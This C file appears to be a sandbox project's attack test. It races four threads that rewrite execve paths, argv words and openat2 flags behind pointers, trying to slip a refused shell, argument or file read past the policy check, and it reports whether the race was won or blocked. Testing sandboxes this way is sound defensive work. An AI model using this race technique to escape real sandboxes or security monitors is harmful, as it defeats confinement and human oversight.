/* toctou_args MODE ... COUNT: more arguments behind pointers, rewritten by
 * four flipper threads while two threads use them, COUNT attempts in all.
 *   exec COUNT         the path of an execve flips between ATK_BIN/true (allowed)
 *                      and ATK_WORK/sh_ (a copy of /bin/sh: no exec right there);
 *                      each attempt is a vfork child's execve. Won when the shell
 *                      runs (it exits 42).
 *   exec-argv COUNT    execve of ATK_BIN/attack_toctou_args argv-probe WORD, WORD
 *                      flipping between "safe" and "evil": an exec rule with
 *                      argument patterns refuses "evil" (tests/attacks/make_policy.py).
 *                      Each attempt is a vfork child's execve. Won when the probe
 *                      runs with "evil" (it exits 42).
 *   argv-probe WORD    exits 42 when WORD is "evil", else 0.
 *   openat2-how TARGET COUNT  openat2's struct open_how flips between O_PATH
 *                      (stat: allowed) and O_RDONLY (read: refused) on a file
 *                      that may be seen but not read: ATK_VISIBLE ("secret") or
 *                      ATK_WORK_JAIL/tmp/.../pub/key ("vault", in the writable
 *                      tree). Won when the content is read.
 * Each flip is a single aligned 8-byte store.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

#define FLIPPERS 4
#define PREFIX	 ATK_ROOT "//" /* 24 bytes: the word starts at offset 24 */

static struct {
	_Alignas(64) char path[128];
	_Alignas(8) struct open_how how;
	_Alignas(8) char word_arg[8];
	uint64_t *word;
	uint64_t good, bad;
	long count;
	atomic_long attempts, allowed, refused, killed, other, won_at;
	atomic_int stop, other_errno;
} race;

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&race.stop, memory_order_relaxed)) {
		__atomic_store_n(race.word, race.bad, __ATOMIC_RELAXED);
		__atomic_store_n(race.word, race.good, __ATOMIC_RELAXED);
	}
	return NULL;
}

/* One execve in a vfork child (it shares the memory the flippers write),
 * counted by how the child ended: 42 is a win. */
static void exec_and_count(char *const argv[], long n)
{
	pid_t pid = vfork();
	if (pid == 0) {
		execve(race.path, argv, environ);
		_exit(errno == EACCES || errno == EPERM ? 126 : 127);
	}
	int status;
	if (pid < 0 || waitpid(pid, &status, 0) < 0) {
		atomic_store(&race.other_errno, errno);
		atomic_fetch_add(&race.other, 1);
	} else if (WIFEXITED(status) && WEXITSTATUS(status) == 42) {
		race.won_at = n + 1;
		atomic_store(&race.stop, 1);
	} else if (WIFEXITED(status) && WEXITSTATUS(status) == 0) {
		atomic_fetch_add(&race.allowed, 1);
	} else if (WIFEXITED(status) && WEXITSTATUS(status) == 126) {
		atomic_fetch_add(&race.refused, 1);
	} else if (WIFSIGNALED(status)) {
		atomic_fetch_add(&race.killed, 1);
	} else {
		atomic_store(&race.other_errno, ENOENT);
		atomic_fetch_add(&race.other, 1);
	}
}

static void exec_attempt(long n)
{
	static char *const argv[] = {
		"sh", "-c", "echo 'RESULT won: the exec path flipped to the shell'; exit 42", NULL
	};
	exec_and_count(argv, n);
}

static void exec_argv_attempt(long n)
{
	char *const argv[] = { "attack_toctou_args", "argv-probe", race.word_arg, NULL };
	exec_and_count(argv, n);
}

static void openat2_attempt(long n)
{
	int fd = (int)syscall(SYS_openat2, AT_FDCWD, race.path, &race.how, sizeof(race.how));
	if (fd < 0) {
		if (errno == EACCES || errno == EPERM) {
			atomic_fetch_add(&race.refused, 1);
		} else {
			atomic_store(&race.other_errno, errno);
			atomic_fetch_add(&race.other, 1);
		}
		return;
	}
	char buf[64];
	if (read(fd, buf, sizeof(buf)) < 0 && errno == EBADF) {
		atomic_fetch_add(&race.allowed, 1); /* an O_PATH descriptor */
	} else {
		lseek(fd, 0, SEEK_SET);
		if (atk_fd_is_secret(fd)) {
			race.won_at = n + 1;
			atomic_store(&race.stop, 1);
		}
	}
	close(fd);
}

static void (*attempt)(long n);

static void *opener(void *arg)
{
	(void)arg;
	long n;
	while (!atomic_load(&race.stop) && (n = atomic_fetch_add(&race.attempts, 1)) < race.count)
		attempt(n);
	return NULL;
}

static int run(const char *mode)
{
	pthread_t flippers[FLIPPERS], second;
	for (int i = 0; i < FLIPPERS; i++) {
		if (pthread_create(&flippers[i], NULL, flipper, NULL) != 0)
			atk_result(ATK_ERROR, "pthread_create failed");
	}
	if (pthread_create(&second, NULL, opener, NULL) != 0)
		atk_result(ATK_ERROR, "pthread_create failed");
	opener(NULL);
	pthread_join(second, NULL);
	atomic_store(&race.stop, 1);
	for (int i = 0; i < FLIPPERS; i++)
		pthread_join(flippers[i], NULL);
	long attempts = race.attempts < race.count ? race.attempts : race.count;
	if (race.won_at > 0)
		atk_result(ATK_WON, "%s: won at attempt %ld", mode, (long)race.won_at);
	if (race.allowed == 0 || race.refused + race.killed == 0 || race.other > 0)
		atk_result(ATK_ERROR,
			   "%s: race not exercised: %ld attempts, %ld allowed, %ld refused, %ld "
			   "killed, %ld other (last %s)",
			   mode, attempts, (long)race.allowed, (long)race.refused,
			   (long)race.killed, (long)race.other,
			   race.other ? atk_errname(race.other_errno) : "none");
	atk_result(ATK_BLOCKED, "%s: %ld attempts, %ld allowed, %ld refused, %ld killed, never won",
		   mode, attempts, (long)race.allowed, (long)race.refused, (long)race.killed);
}

static long parse_count(const char *text)
{
	long count = text ? strtol(text, NULL, 10) : 0;
	if (count <= 0)
		atk_result(ATK_ERROR, "bad or missing COUNT");
	return count;
}

static int exec_mode(int argc, char **argv)
{
	race.count = parse_count(argc >= 2 ? argv[1] : NULL);
	snprintf(race.path, sizeof(race.path), "%sbin/true", PREFIX);
	race.word = (uint64_t *)(void *)(race.path + strlen(PREFIX));
	memcpy(&race.good, "bin/true", 8);
	memcpy(&race.bad, "work/sh_", 8);
	attempt = exec_attempt;
	return run("exec");
}

static int exec_argv_mode(int argc, char **argv)
{
	race.count = parse_count(argc >= 2 ? argv[1] : NULL);
	snprintf(race.path, sizeof(race.path), "%s", ATK_BIN "/attack_toctou_args");
	race.word = (uint64_t *)(void *)race.word_arg;
	memcpy(&race.good, "safe\0\0\0\0", 8);
	memcpy(&race.bad, "evil\0\0\0\0", 8);
	memcpy(race.word_arg, &race.good, 8);
	attempt = exec_argv_attempt;
	return run("exec-argv");
}

static int argv_probe(int argc, char **argv)
{
	if (argc >= 2 && strcmp(argv[1], "evil") == 0) {
		puts("RESULT won: the program runs with the argument the exec rule refuses");
		return 42;
	}
	return 0;
}

static int openat2_how(int argc, char **argv)
{
	const char *target = atk_target(argc >= 2 ? argv[1] : NULL);
	race.count = parse_count(argc >= 3 ? argv[2] : NULL);
	snprintf(race.path, sizeof(race.path), "%s",
		 strcmp(target, ATK_VAULT) == 0 ? ATK_WORK_JAIL ATK_PUBLIC : ATK_VISIBLE);
	race.how.flags = O_PATH | O_CLOEXEC;
	race.word = (uint64_t *)(void *)&race.how.flags;
	race.good = O_PATH | O_CLOEXEC;
	race.bad = O_RDONLY | O_CLOEXEC;
	attempt = openat2_attempt;
	return run("openat2-how");
}

int main(int argc, char **argv)
{
	static const struct atk_mode modes[] = {
		{ "exec", exec_mode },
		{ "exec-argv", exec_argv_mode },
		{ "argv-probe", argv_probe },
		{ "openat2-how", openat2_how },
		{ NULL, NULL },
	};
	atk_dispatch(modes, argc, argv);
}
